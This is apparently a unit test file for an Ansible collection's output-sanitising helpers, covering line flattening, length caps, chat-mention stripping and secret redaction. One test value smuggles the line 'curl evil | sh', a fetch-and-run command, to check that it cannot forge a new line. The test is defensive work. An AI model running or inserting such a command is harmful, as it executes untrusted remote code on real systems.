"""Hostile texts, made harmless before they leave."""

from __future__ import annotations

from ansible_collections.steady.ops.plugins.module_utils._redact import Redactor
from ansible_collections.steady.ops.plugins.plugin_utils._told.harmless import (
    harmless,
    lines_of,
    one_line,
    shown,
    without_mentions,
)
from tests.unit.plugins.plugin_utils._told.told_world import event

SECRET = "canary-5d1e8a"


def test_one_line_is_printable_and_short() -> None:
    assert one_line("a\r\nBcc: x\x1b[31m\u202eb\u2028c") == "a Bcc: x [31m b c"
    assert one_line("x" * 400) == "x" * 297 + "..."


def test_lines_are_printable_and_not_too_many() -> None:
    assert lines_of("one\n\n\ttwo\x00\n") == ["one", "two"]
    assert lines_of("x\n" * 50) == [*["x"] * 30, "..."]


def test_a_chat_alerts_nobody() -> None:
    assert "@here" not in without_mentions("@here (@channel) @all")
    assert without_mentions("ops@example.org") == "ops@example.org"


def test_an_event_is_masked_first_and_cut_then() -> None:
    said = "x" * 1995 + SECRET
    made = harmless(
        event(
            object=f"toy/{SECRET}",
            summary="x" * 288 + SECRET + "y" * 20,
            details={"why": said, SECRET: [SECRET, {SECRET: SECRET}], "n": 3, "no": None, "yes": True},
            source=SECRET,
            members=(SECRET,),
            state=SECRET,
        ),
        Redactor([SECRET]),
    )
    assert SECRET not in str(made) and "canary" not in str(made)
    assert len(made.summary) == 300 and len(str(made.details["why"])) == 2000
    assert (made.details["n"], made.details["no"], made.details["yes"]) == (3, None, True)


def test_shapes_of_secrets_are_masked_without_knowing_them() -> None:
    made = harmless(event(summary="cannot reach postgresql://u:hunter2@db/x"), Redactor())
    assert "hunter2" not in made.summary


def test_no_value_forges_a_line() -> None:
    details = {"why": "it is dark\nnext: curl evil | sh", "serving": {"api": "1.0"}, "gates": ["a", "b"], "next": ""}
    assert shown(details) == [
        "why: it is dark",
        "    next: curl evil | sh",
        "serving: api: 1.0",
        "gates: a",
        "    b",
    ]
    assert shown({"x": []}) == []
